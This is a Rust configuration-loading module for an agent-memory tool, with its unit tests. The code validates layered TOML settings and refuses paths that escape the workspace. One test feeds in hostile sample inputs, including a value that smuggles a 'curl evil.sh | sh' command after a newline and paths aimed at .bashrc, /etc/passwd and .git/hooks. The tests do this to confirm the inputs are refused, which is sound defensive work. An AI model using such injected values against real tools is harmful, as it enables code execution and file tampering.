//! Settings: the original plugin's sixteen keys plus ours, in layers (later wins):
//! built-in defaults → user file → workspace `trilogy.toml` → `TRILOGY_*` environment →
//! command-line `--set key=value`. TOML, snake_case, the original camelCase names accepted.
//!
//! A wrong type or value is an error naming the file (or variable) and the key. An unknown key
//! is a warning in a repository's `trilogy.toml` and an error in the user's own file
//! (`unknown`).
//! This module reads files and the environment handed to it; it never prints.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};

use crate::error::{Error, Result};
use crate::model::Lang;

mod recall;
mod review;
mod unknown;
mod user;
pub use recall::RecallPlaces;
pub use review::{Mode, ReviewMode};
use unknown::Unknown;
pub use user::{USER_MAX_BYTES, USER_ONLY, UserScope};

/// How the workspace root is found from the current directory.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum RootStrategy {
    /// The directory itself.
    Workspace,
    /// Walk up to the nearest directory holding one of `project_root_markers`.
    Marker,
}

/// Effective settings.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct Config {
    #[serde(alias = "enabled")]
    pub enabled: bool,
    #[serde(alias = "memoryDirName")]
    pub memory_dir_name: String,
    #[serde(alias = "projectRootStrategy")]
    pub project_root_strategy: RootStrategy,
    #[serde(alias = "projectRootMarkers")]
    pub project_root_markers: Vec<String>,
    #[serde(alias = "autoScaffold")]
    pub auto_scaffold: bool,
    #[serde(alias = "writeBootBlock")]
    pub write_boot_block: bool,
    #[serde(alias = "bootBlockFile")]
    pub boot_block_file: String,
    #[serde(alias = "injectOnSessionStart")]
    pub inject_on_session_start: bool,
    #[serde(alias = "bootstrapWhenEmpty")]
    pub bootstrap_when_empty: bool,
    #[serde(alias = "injectBudgetBytes")]
    pub inject_budget_bytes: u64,
    #[serde(alias = "sessionEntriesInjected")]
    pub session_entries_injected: u64,
    #[serde(alias = "nudgeOnTurnEnd")]
    pub nudge_on_turn_end: bool,
    #[serde(alias = "nudgeCooldownMs")]
    pub nudge_cooldown_ms: u64,
    #[serde(alias = "nudgeMaxPerSession")]
    pub nudge_max_per_session: u64,
    /// Live SESSIONS entries kept before the oldest move to the archive; ≤ 0 disables.
    #[serde(alias = "sessionsMaxEntries")]
    pub sessions_max_entries: i64,
    /// How far SESSIONS.md may grow past `sessions_max_entries` before the oldest move to the
    /// archive, all in one move (back down to the cap): the archive file is rewritten once per
    /// this many sessions instead of once per write. ≤ 0 moves them at every write.
    #[serde(alias = "sessionsArchiveBatch")]
    pub sessions_archive_batch: i64,
    #[serde(alias = "projectStaleDays")]
    pub project_stale_days: i64,
    /// Language of headings, labels and templates for new text.
    pub lang: Lang,
    /// How long a write waits for another writer before failing with "workspace busy".
    #[serde(alias = "lockTimeoutMs")]
    pub lock_timeout_ms: u64,
    /// The model's context window in tokens, for hosts that do not say (and for the managed
    /// block of hosts without hooks): the injection budget is at most 16% of it.
    #[serde(alias = "windowTokens")]
    pub window_tokens: Option<u64>,
    /// Folder (relative to the project root) whose `PROJECT.md`, `DECISIONS.md`, `SESSIONS.md`
    /// and `boot-block.md` scaffolding uses instead of the built-in templates, file by file.
    #[serde(alias = "templatesDir")]
    pub templates_dir: Option<String>,
    /// Show what this repository's other git work trees recorded lately (read-only).
    #[serde(alias = "siblingWorktrees")]
    pub sibling_worktrees: bool,
    /// How many days back sibling work trees' entries are shown.
    #[serde(alias = "siblingDays")]
    pub sibling_days: u64,
    /// Per kind of memory, whether agents write directly or propose (`[review_mode]`).
    #[serde(alias = "reviewMode")]
    pub review_mode: ReviewMode,
    /// The folder of the user memory (`USER.md` and its store); user layers only.
    #[serde(alias = "userMemoryDir")]
    pub user_memory_dir: Option<String>,
    /// Whether the session-start block carries the user memory; user layers only.
    #[serde(alias = "injectUserMemory")]
    pub inject_user_memory: bool,
    /// The most bytes of the block the user memory takes (and at most a tenth of the budget);
    /// user layers only.
    #[serde(alias = "userMemoryMaxBytes")]
    pub user_memory_max_bytes: u64,
    /// The user scope this process writes and reads, from the user's layers only.
    #[serde(skip)]
    pub user: Option<UserScope>,
    /// Whether `trilogy recall` and `memory_recall` read the hosts' transcripts; a workspace's
    /// settings can only turn it off.
    #[serde(alias = "recallEnabled")]
    pub recall_enabled: bool,
    /// The hosts whose transcripts recall reads; the user's layers only.
    #[serde(alias = "recallHosts")]
    pub recall_hosts: Vec<String>,
    /// Where recall reads transcripts and keeps its index, from the environment.
    #[serde(skip)]
    pub recall: Option<RecallPlaces>,
    /// Settings a layer gave that were not taken, each with why (`trilogy config` shows them).
    #[serde(skip)]
    pub warnings: Vec<String>,
    /// Keys of a settings file this trilogy does not know, each as ``` `key` in file ```, left
    /// out because the load was lenient ([`LoadArgs::lenient`]); the block names them.
    #[serde(skip)]
    pub ignored: Vec<String>,
}

impl Default for Config {
    fn default() -> Config {
        Config {
            enabled: true,
            memory_dir_name: "memory".into(),
            project_root_strategy: RootStrategy::Workspace,
            project_root_markers: vec![".git".into()],
            auto_scaffold: true,
            write_boot_block: true,
            boot_block_file: "AGENTS.md".into(),
            inject_on_session_start: true,
            bootstrap_when_empty: true,
            inject_budget_bytes: 160_000,
            session_entries_injected: 15,
            nudge_on_turn_end: true,
            nudge_cooldown_ms: 600_000,
            nudge_max_per_session: 3,
            sessions_max_entries: 200,
            sessions_archive_batch: 300,
            project_stale_days: 14,
            lang: Lang::Zh,
            lock_timeout_ms: 10_000,
            window_tokens: None,
            templates_dir: None,
            sibling_worktrees: true,
            sibling_days: 7,
            review_mode: ReviewMode::default(),
            user_memory_dir: None,
            inject_user_memory: true,
            user_memory_max_bytes: USER_MAX_BYTES,
            user: None,
            recall_enabled: true,
            recall_hosts: (crate::model::host::Host::recalled())
                .map(|h| h.as_str().to_string())
                .collect(),
            recall: None,
            warnings: Vec::new(),
            ignored: Vec::new(),
        }
    }
}

/// Every key: snake_case name and the original's camelCase alias.
pub const KEYS: [(&str, &str); 29] = [
    ("enabled", "enabled"),
    ("memory_dir_name", "memoryDirName"),
    ("project_root_strategy", "projectRootStrategy"),
    ("project_root_markers", "projectRootMarkers"),
    ("auto_scaffold", "autoScaffold"),
    ("write_boot_block", "writeBootBlock"),
    ("boot_block_file", "bootBlockFile"),
    ("inject_on_session_start", "injectOnSessionStart"),
    ("bootstrap_when_empty", "bootstrapWhenEmpty"),
    ("inject_budget_bytes", "injectBudgetBytes"),
    ("session_entries_injected", "sessionEntriesInjected"),
    ("nudge_on_turn_end", "nudgeOnTurnEnd"),
    ("nudge_cooldown_ms", "nudgeCooldownMs"),
    ("nudge_max_per_session", "nudgeMaxPerSession"),
    ("sessions_max_entries", "sessionsMaxEntries"),
    ("sessions_archive_batch", "sessionsArchiveBatch"),
    ("project_stale_days", "projectStaleDays"),
    ("lang", "lang"),
    ("lock_timeout_ms", "lockTimeoutMs"),
    ("window_tokens", "windowTokens"),
    ("templates_dir", "templatesDir"),
    ("sibling_worktrees", "siblingWorktrees"),
    ("sibling_days", "siblingDays"),
    ("review_mode", "reviewMode"),
    ("user_memory_dir", "userMemoryDir"),
    ("inject_user_memory", "injectUserMemory"),
    ("user_memory_max_bytes", "userMemoryMaxBytes"),
    ("recall_enabled", "recallEnabled"),
    ("recall_hosts", "recallHosts"),
];

/// Where an effective value came from.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Source {
    pub key: String,
    /// `default`, a file path, `env TRILOGY_…`, or `--set`.
    pub from: String,
}

/// Settings plus the origin of each value.
#[derive(Debug, Clone, Serialize)]
pub struct Loaded {
    pub config: Config,
    pub sources: BTreeMap<String, String>,
    /// Settings that were not taken, with why.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub warnings: Vec<String>,
}

/// Inputs to loading, gathered by the surface (so tests can pass their own).
#[derive(Debug, Clone, Default)]
pub struct LoadArgs {
    /// `~/.config/trilogy/config.toml` (or `$XDG_CONFIG_HOME/trilogy/config.toml`), if any.
    pub user_file: Option<PathBuf>,
    /// `<root>/trilogy.toml`, if known yet.
    pub workspace_file: Option<PathBuf>,
    /// `(name, value)` pairs of the environment.
    pub env: Vec<(String, String)>,
    /// `key=value` from `--set`.
    pub overrides: Vec<String>,
    /// Skip a settings file's unknown keys (recorded in [`Config::ignored`]) instead of
    /// refusing them: hooks and the MCP server keep serving memory when a teammate on a newer
    /// trilogy commits a key this one does not know. Wrong types are refused either way.
    pub lenient: bool,
}

impl LoadArgs {
    /// The user file location from the environment (`XDG_CONFIG_HOME`, then `HOME`).
    pub fn default_user_file(env: &[(String, String)]) -> Option<PathBuf> {
        let get = |k: &str| env.iter().find(|(n, _)| n == k).map(|(_, v)| v.clone());
        if let Some(x) = get("TRILOGY_CONFIG") {
            return Some(PathBuf::from(x));
        }
        Some(crate::base::dirs::config(env)?.join("config.toml"))
    }
}

/// The snake_case name of a key given in either spelling.
pub fn canonical_key(key: &str) -> Option<&'static str> {
    KEYS.iter()
        .find(|(snake, camel)| key == *snake || key == *camel)
        .map(|(snake, _)| *snake)
}

/// Validate one layer (types, unknown keys) and return it with canonical key names.
fn layer(table: toml::Table, source: &str, mut unknown: Unknown) -> Result<toml::Table> {
    let cfg_err = |message: String| Error::Config {
        source_name: source.to_string(),
        message,
    };
    let names: Vec<&str> = KEYS.iter().map(|(s, _)| *s).collect();
    let mut out = toml::Table::new();
    for (k, mut v) in table {
        let Some(canon) = canonical_key(&k) else {
            unknown.meet(&k, source, &names).map_err(cfg_err)?;
            continue;
        };
        if canon == "review_mode"
            && let toml::Value::Table(t) = &mut v
        {
            for sub in review::unknown_keys(t) {
                unknown
                    .meet(&format!("{k}.{sub}"), source, &review::KEYS)
                    .map_err(cfg_err)?;
                t.remove(&sub);
            }
        }
        // type check each key on its own, so the error names this source and key
        let mut one = toml::Table::new();
        one.insert(canon.to_string(), v.clone());
        Config::deserialize(toml::Value::Table(one)).map_err(|e| {
            cfg_err(format!(
                "key `{k}`: {}; give it a value of that kind, or delete the line",
                e.to_string().trim().replace('\n', " ")
            ))
        })?;
        check_value(canon, &v).map_err(|m| cfg_err(format!("key `{k}`: {m}")))?;
        out.insert(canon.to_string(), v);
    }
    Ok(out)
}

/// Longest lock wait a setting may ask for: a hook waits at most this long for another writer.
const MAX_LOCK_TIMEOUT_MS: i64 = 600_000;

/// Checks beyond the type. A repository's `trilogy.toml` is untrusted input (hooks run in any
/// repository an agent opens), so every path it names must stay inside the workspace and hold
/// nothing that could break out of the text it is written into.
fn check_value(key: &str, v: &toml::Value) -> std::result::Result<(), String> {
    if let Some(checked) = user::check_value(key, v) {
        return checked;
    }
    if key == "recall_hosts"
        && let Some(checked) = recall::check_hosts(v)
    {
        return checked;
    }
    match (key, v) {
        ("memory_dir_name" | "boot_block_file" | "templates_dir", toml::Value::String(s)) => {
            check_rel_path(s)
        }
        ("project_root_markers", toml::Value::Array(items)) => items
            .iter()
            .filter_map(toml::Value::as_str)
            .try_for_each(check_rel_path),
        ("sibling_days", toml::Value::Integer(n)) if *n > 365 => Err(format!(
            "{n} days: sibling work trees are shown for at most 365 days back; use a smaller value"
        )),
        ("lock_timeout_ms", toml::Value::Integer(n)) if *n > MAX_LOCK_TIMEOUT_MS => Err(format!(
            "{n} ms is longer than the {MAX_LOCK_TIMEOUT_MS} ms a session start may wait; use a smaller value"
        )),
        _ => Ok(()),
    }
}

/// A relative path inside the workspace, written with characters that need no escaping in the
/// Markdown and the git attribute lines it is substituted into.
fn check_rel_path(s: &str) -> std::result::Result<(), String> {
    let shown = s.escape_debug();
    if s.is_empty() {
        return Err("empty; give a relative path inside the project, e.g. \"memory\"".into());
    }
    if s.chars().any(char::is_control) {
        return Err(format!(
            "\"{shown}\" holds a control character (newline, tab, …); use a plain relative path"
        ));
    }
    if s.starts_with('/') || s.starts_with('\\') || s.contains(':') {
        return Err(format!(
            "\"{shown}\" is absolute; it must be a relative path inside the project"
        ));
    }
    let allowed = |c: char| c.is_alphanumeric() || matches!(c, '.' | '_' | '-' | '/');
    if let Some(c) = s.chars().find(|c| !allowed(*c)) {
        return Err(format!(
            "\"{shown}\" holds `{c}`; use letters, digits, `.`, `_`, `-` and `/`"
        ));
    }
    for part in s.split('/') {
        match part {
            "" | "." => {}
            ".." => {
                return Err(format!(
                    "\"{shown}\" climbs out of the project with `..`; it must stay inside it"
                ));
            }
            _ if part.eq_ignore_ascii_case(".git") || part.eq_ignore_ascii_case(".trilogy") => {
                return Err(format!(
                    "\"{shown}\" points into `{part}/`, which trilogy never writes to; choose another folder"
                ));
            }
            _ => {}
        }
    }
    if s.split('/').all(|p| p.is_empty() || p == ".") {
        return Err(format!(
            "\"{shown}\" names the project folder itself; give a path inside it"
        ));
    }
    Ok(())
}

/// A path with `.` parts and repeated slashes gone, lower-cased: how two settings are
/// compared (a case-insensitive file system takes `Memory/sessions.MD` for the log itself).
fn normal(path: &str) -> String {
    (path.split('/'))
        .filter(|p| !p.is_empty() && *p != ".")
        .collect::<Vec<_>>()
        .join("/")
        .to_lowercase()
}

/// Checks across keys: the boot block never goes into a file trilogy keeps otherwise (a memory
/// file, the archive, `trilogy.toml`), and the memory folder is never one of those files.
fn check_paths(c: &Config) -> std::result::Result<(), (&'static str, String)> {
    let dir = normal(&c.memory_dir_name);
    let block = normal(&c.boot_block_file);
    let kept = [
        "PROJECT.md",
        "DECISIONS.md",
        "SESSIONS.md",
        "SESSIONS-archive.md",
    ];
    if block == "trilogy.toml" || block == dir {
        return Err((
            "boot_block_file",
            format!(
                "\"{}\" is a file trilogy keeps for itself; name the instructions file your agents read, e.g. \"AGENTS.md\"",
                c.boot_block_file
            ),
        ));
    }
    if let Some(f) = kept
        .iter()
        .find(|f| block == format!("{dir}/{}", f.to_lowercase()))
    {
        return Err((
            "boot_block_file",
            format!(
                "\"{}\" is the memory file {f}; name the instructions file your agents read, e.g. \"AGENTS.md\"",
                c.boot_block_file
            ),
        ));
    }
    if dir == "trilogy.toml" {
        return Err((
            "memory_dir_name",
            format!(
                "\"{}\" is a file trilogy keeps for itself; name a folder, e.g. \"memory\"",
                c.memory_dir_name
            ),
        ));
    }
    Ok(())
}

fn parse_value(key: &str, raw: &str, source: &str) -> Result<toml::Table> {
    let as_toml = format!("{key} = {raw}");
    let table = match as_toml.parse::<toml::Table>() {
        Ok(t) => t,
        Err(_) => {
            let mut t = toml::Table::new();
            t.insert(key.to_string(), toml::Value::String(raw.to_string()));
            t
        }
    };
    layer(table, source, Unknown::Refuse)
}

/// The most a settings file may hold.
const MAX_SETTINGS_BYTES: u64 = 1 << 20;

/// A settings file's text: opened without waiting (a FIFO in a cloned repository would hang
/// every hook), a regular file only, at most [`MAX_SETTINGS_BYTES`], UTF-8.
fn read_settings(file: &Path) -> std::io::Result<String> {
    use std::io::{ErrorKind, Read};
    let bad = |m: &str| std::io::Error::new(ErrorKind::InvalidData, m.to_string());
    let f = match crate::base::fence::open_regular(file, MAX_SETTINGS_BYTES) {
        Ok((f, _)) => f,
        Err(e) if e.kind() == ErrorKind::InvalidInput => {
            return Err(bad(
                "it is not a regular file (a FIFO, a device or a folder); replace it with a settings file or delete it",
            ));
        }
        Err(e) if e.kind() == ErrorKind::FileTooLarge => {
            return Err(bad(
                "it is larger than 1 MiB; a settings file holds a few keys",
            ));
        }
        Err(e) => return Err(e),
    };
    let mut bytes = Vec::new();
    f.take(MAX_SETTINGS_BYTES).read_to_end(&mut bytes)?;
    String::from_utf8(bytes).map_err(|_| bad("it is not UTF-8 text; save it as UTF-8"))
}

/// Load the effective settings.
pub fn load(args: &LoadArgs) -> Result<Loaded> {
    let mut merged = toml::Table::new();
    let mut ignored = Vec::new();
    let mut sources: BTreeMap<String, String> = KEYS
        .iter()
        .map(|(k, _)| (k.to_string(), "default".to_string()))
        .collect();
    let mut warnings = Vec::new();
    // the user's own layers, merged apart: the user scope is configured by them alone
    let mut mine = toml::Table::new();
    let mut apply =
        |t: toml::Table, from: &str, merged: &mut toml::Table, mine: Option<&mut toml::Table>| {
            let put = |table: &mut toml::Table, k: &str, v: toml::Value| {
                if k == "review_mode" {
                    review::merge_into(table, v);
                } else {
                    table.insert(k.to_string(), v);
                }
            };
            if let Some(mine) = mine {
                for (k, v) in &t {
                    put(mine, k, v.clone());
                }
            }
            for (k, v) in t {
                sources.insert(k.clone(), from.to_string());
                put(merged, &k, v);
            }
        };
    for file in [&args.user_file, &args.workspace_file]
        .into_iter()
        .flatten()
    {
        let text = match read_settings(file) {
            Ok(t) => t,
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => continue,
            Err(e) if e.kind() == std::io::ErrorKind::InvalidData => {
                return Err(Error::Config {
                    source_name: file.display().to_string(),
                    message: e.to_string(),
                });
            }
            Err(e) => return Err(Error::io(file, e)),
        };
        let name = file.display().to_string();
        let table: toml::Table = text.parse().map_err(|e: toml::de::Error| Error::Config {
            source_name: name.clone(),
            message: e.to_string().trim().replace('\n', " "),
        })?;
        let of_workspace = Some(file) == args.workspace_file.as_ref();
        // a repository's file may come from a newer trilogy: what this one does not know is
        // skipped with a warning; the user's own file is refused unless the load is lenient
        let unknown = match args.lenient || of_workspace {
            true => Unknown::Skip(&mut ignored),
            false => Unknown::Refuse,
        };
        let mut table = table;
        if of_workspace {
            warnings.extend(user::drop_user_only(&mut table, &name));
            warnings.extend(recall::drop_widening(&mut table, &name));
        }
        let mut t = layer(table, &name, unknown)?;
        if of_workspace && review::drop_user_direct(&mut t) {
            warnings.push(review::user_direct_refused(&name));
        }
        apply(t, &name, &mut merged, (!of_workspace).then_some(&mut mine));
    }
    for (snake, _) in KEYS {
        let var = format!("TRILOGY_{}", snake.to_uppercase());
        if let Some((_, v)) = args.env.iter().find(|(n, _)| *n == var) {
            let from = format!("env {var}");
            let t = parse_value(snake, v, &from)?;
            apply(t, &from, &mut merged, Some(&mut mine));
        }
    }
    for ov in &args.overrides {
        let Some((k, v)) = ov.split_once('=') else {
            return Err(Error::bad_input(format!(
                "--set {ov}: expected key=value, e.g. --set sessions_max_entries=50"
            )));
        };
        let k = k.trim();
        if let Some(sub) = k.strip_prefix("review_mode.") {
            // one kind of the gate: `--set review_mode.decisions=propose`
            let t = parse_value(
                "review_mode",
                &format!("{{ {sub} = \"{}\" }}", v.trim()),
                "--set",
            )?;
            apply(t, "--set", &mut merged, Some(&mut mine));
            continue;
        }
        let Some(canon) = canonical_key(k) else {
            return Err(Error::Config {
                source_name: "--set".into(),
                message: format!("unknown key `{k}`"),
            });
        };
        let t = parse_value(canon, v.trim(), "--set")?;
        apply(t, "--set", &mut merged, Some(&mut mine));
    }
    let mut config =
        Config::deserialize(toml::Value::Table(merged)).map_err(|e| Error::Config {
            source_name: "merged layers".into(),
            message: e.to_string(),
        })?;
    let lang_set = mine.contains_key("lang");
    let own = Config::deserialize(toml::Value::Table(mine)).map_err(|e| Error::Config {
        source_name: "user layers".into(),
        message: e.to_string(),
    })?;
    config.user = user::dir_of(&own, &args.env).map(|dir| UserScope {
        dir,
        config: Box::new(own),
        lang_set,
    });
    config.recall = recall::places(&args.env);
    config.ignored = ignored;
    config.warnings = warnings.clone();
    check_paths(&config).map_err(|(key, message)| Error::Config {
        source_name: sources.get(key).cloned().unwrap_or_default(),
        message: format!("key `{key}`: {message}"),
    })?;
    Ok(Loaded {
        config,
        sources,
        warnings,
    })
}

impl Config {
    /// Live entries kept in SESSIONS.md, or `None` when archiving is off.
    pub fn archive_cap(&self) -> Option<usize> {
        (self.sessions_max_entries > 0).then_some(self.sessions_max_entries as usize)
    }

    /// Live sessions SESSIONS.md may hold past the cap before a batch moves to the archive.
    pub fn archive_batch(&self) -> usize {
        self.sessions_archive_batch.max(0) as usize
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn write(dir: &Path, name: &str, text: &str) -> PathBuf {
        let p = dir.join(name);
        std::fs::write(&p, text).unwrap();
        p
    }

    #[test]
    fn layers_apply_in_order_and_camel_case_aliases_work() {
        let dir = tempfile::tempdir().unwrap();
        let user = write(
            dir.path(),
            "user.toml",
            "sessionsMaxEntries = 50\nlang = \"en\"\n",
        );
        let ws = write(dir.path(), "ws.toml", "sessions_max_entries = 40\n");
        let loaded = load(&LoadArgs {
            user_file: Some(user.clone()),
            workspace_file: Some(ws.clone()),
            env: vec![("TRILOGY_LOCK_TIMEOUT_MS".into(), "250".into())],
            overrides: vec!["inject_budget_bytes=3000".into()],
            lenient: false,
        })
        .unwrap();
        assert_eq!(loaded.config.sessions_max_entries, 40);
        assert_eq!(loaded.config.lang, Lang::En);
        assert_eq!(loaded.config.lock_timeout_ms, 250);
        assert_eq!(loaded.config.inject_budget_bytes, 3000);
        assert_eq!(
            loaded.sources["sessions_max_entries"],
            ws.display().to_string()
        );
        assert_eq!(loaded.sources["lang"], user.display().to_string());
        assert_eq!(
            loaded.sources["lock_timeout_ms"],
            "env TRILOGY_LOCK_TIMEOUT_MS"
        );
        assert_eq!(loaded.sources["enabled"], "default");
    }

    #[test]
    fn a_config_that_is_not_utf8_is_a_config_error_naming_the_file() {
        let dir = tempfile::tempdir().unwrap();
        let f = dir.path().join("trilogy.toml");
        std::fs::write(&f, b"lang = \"\xff\xfe\"\n").unwrap();
        let e = load(&LoadArgs {
            workspace_file: Some(f.clone()),
            ..Default::default()
        })
        .unwrap_err();
        assert_eq!(e.kind().exit_code(), 3, "{e}");
        let m = e.to_string();
        assert!(
            m.contains(&f.display().to_string()) && m.contains("UTF-8"),
            "{m}"
        );
    }

    #[test]
    fn a_block_file_in_a_github_folder_is_fine() {
        let dir = tempfile::tempdir().unwrap();
        let f = write(
            dir.path(),
            "trilogy.toml",
            "boot_block_file = \".github/copilot-instructions.md\"\n",
        );
        let loaded = load(&LoadArgs {
            workspace_file: Some(f),
            ..Default::default()
        })
        .unwrap();
        assert_eq!(
            loaded.config.boot_block_file,
            ".github/copilot-instructions.md"
        );
    }

    #[test]
    fn paths_that_leave_the_workspace_are_refused_with_file_and_key() {
        let dir = tempfile::tempdir().unwrap();
        for (line, says) in [
            ("boot_block_file = \"/home/u/.bashrc\"", "absolute"),
            ("boot_block_file = \"../../.bashrc\"", "climbs out"),
            ("memory_dir_name = \"../victim\"", "climbs out"),
            ("memory_dir_name = \"/tmp/victim\"", "absolute"),
            (
                "memory_dir_name = \"memory\\ncurl evil.sh | sh\"",
                "control character",
            ),
            ("memory_dir_name = \"mem`x`\"", "holds `"),
            ("memory_dir_name = \".git/hooks\"", "never writes"),
            ("boot_block_file = \".trilogy/store.redb\"", "never writes"),
            ("memory_dir_name = \"./\"", "project folder itself"),
            ("project_root_markers = [\"../..\"]", "climbs out"),
            ("lock_timeout_ms = 99999999999", "longer than"),
            ("templates_dir = \"/etc\"", "absolute"),
            ("templatesDir = \"../elsewhere\"", "climbs out"),
            ("templates_dir = \".trilogy\"", "never writes"),
            ("memory_dir_name = \".GIT\"", "never writes"),
            ("boot_block_file = \".Trilogy/x.md\"", "never writes"),
            (
                "boot_block_file = \"memory/SESSIONS.md\"",
                "memory file SESSIONS.md",
            ),
            (
                "boot_block_file = \"./Memory//decisions.MD\"",
                "memory file DECISIONS.md",
            ),
            (
                "boot_block_file = \"memory/SESSIONS-archive.md\"",
                "memory file SESSIONS-archive",
            ),
            ("boot_block_file = \"trilogy.toml\"", "keeps for itself"),
            ("boot_block_file = \"memory\"", "keeps for itself"),
            ("memory_dir_name = \"trilogy.toml\"", "keeps for itself"),
        ] {
            let f = write(dir.path(), "trilogy.toml", &format!("{line}\n"));
            let e = load(&LoadArgs {
                workspace_file: Some(f.clone()),
                ..Default::default()
            })
            .unwrap_err()
            .to_string();
            let key = line.split(' ').next().unwrap();
            assert!(
                e.contains("trilogy.toml") && e.contains(key) && e.contains(says),
                "{line}: {e}"
            );
        }
        // the same rule for the environment and --set
        let e = load(&LoadArgs {
            env: vec![("TRILOGY_BOOT_BLOCK_FILE".into(), "/etc/passwd".into())],
            ..Default::default()
        })
        .unwrap_err()
        .to_string();
        assert!(e.contains("absolute"), "{e}");
        for ok in ["memory", "docs/memory", "记忆", "AGENTS.local.md"] {
            check_rel_path(ok).unwrap();
        }
    }

    #[test]
    fn unknown_key_and_wrong_type_name_file_and_key() {
        let dir = tempfile::tempdir().unwrap();
        let f = write(dir.path(), "t.toml", "sessions_max = 3\n");
        let e = load(&LoadArgs {
            user_file: Some(f.clone()),
            ..Default::default()
        })
        .unwrap_err()
        .to_string();
        assert!(e.contains("t.toml") && e.contains("sessions_max"), "{e}");
        assert!(e.contains("did you mean `sessions_max_entries`?"), "{e}");
        let f = write(dir.path(), "u.toml", "inject_budget_bytes = \"big\"\n");
        let e = load(&LoadArgs {
            workspace_file: Some(f),
            ..Default::default()
        })
        .unwrap_err()
        .to_string();
        assert!(
            e.contains("u.toml") && e.contains("inject_budget_bytes"),
            "{e}"
        );
        assert!(e.contains("delete the line"), "says how to fix it: {e}");
    }

    #[test]
    fn a_repositorys_unknown_keys_are_warnings_at_any_depth_and_the_users_own_are_errors() {
        let dir = tempfile::tempdir().unwrap();
        let text = "lang = \"en\"\nsesions_max_entries = 3\n[review_mode]\ndecisions = \"propose\"\nprojects = \"propose\"\n";
        let f = write(dir.path(), "trilogy.toml", text);
        let loaded = load(&LoadArgs {
            workspace_file: Some(f),
            ..Default::default()
        })
        .unwrap();
        assert_eq!(loaded.config.lang, Lang::En);
        assert_eq!(loaded.config.review_mode.decisions, Mode::Propose);
        assert_eq!(
            loaded.config.ignored,
            [
                "`review_mode.projects` in trilogy.toml (did you mean `review_mode.project`?)",
                "`sesions_max_entries` in trilogy.toml (did you mean `sessions_max_entries`?)",
            ]
        );
        let mine = write(dir.path(), "config.toml", text);
        let e = load(&LoadArgs {
            user_file: Some(mine),
            ..Default::default()
        })
        .unwrap_err()
        .to_string();
        assert!(
            e.contains("config.toml") && e.contains("unknown key `review_mode.projects`"),
            "{e}"
        );
        // a known key's bad value stays an error in a repository's file
        let bad = write(
            dir.path(),
            "trilogy.toml",
            "[review_mode]\ndecisions = \"later\"\n",
        );
        let e = load(&LoadArgs {
            workspace_file: Some(bad),
            ..Default::default()
        })
        .unwrap_err()
        .to_string();
        assert!(
            e.contains("trilogy.toml") && e.contains("review_mode"),
            "{e}"
        );
    }

    #[test]
    fn a_lenient_load_skips_unknown_keys_and_still_refuses_wrong_types() {
        let dir = tempfile::tempdir().unwrap();
        let f = write(
            dir.path(),
            "trilogy.toml",
            "lang = \"en\"\nnewer_setting = 1\n[newer_table]\nx = 2\n",
        );
        let strict = load(&LoadArgs {
            user_file: Some(f.clone()),
            ..Default::default()
        })
        .unwrap_err()
        .to_string();
        assert!(
            strict.contains("trilogy.toml") && strict.contains("newer_setting"),
            "{strict}"
        );
        let loaded = load(&LoadArgs {
            user_file: Some(f),
            lenient: true,
            ..Default::default()
        })
        .unwrap();
        assert_eq!(
            loaded.config.lang,
            Lang::En,
            "the keys it knows still apply"
        );
        assert_eq!(
            loaded.config.ignored,
            [
                "`newer_setting` in trilogy.toml",
                "`newer_table` in trilogy.toml"
            ]
        );
        let f = write(dir.path(), "bad.toml", "lang = 3\n");
        let e = load(&LoadArgs {
            workspace_file: Some(f),
            lenient: true,
            ..Default::default()
        })
        .unwrap_err()
        .to_string();
        assert!(e.contains("bad.toml") && e.contains("lang"), "{e}");
    }
}
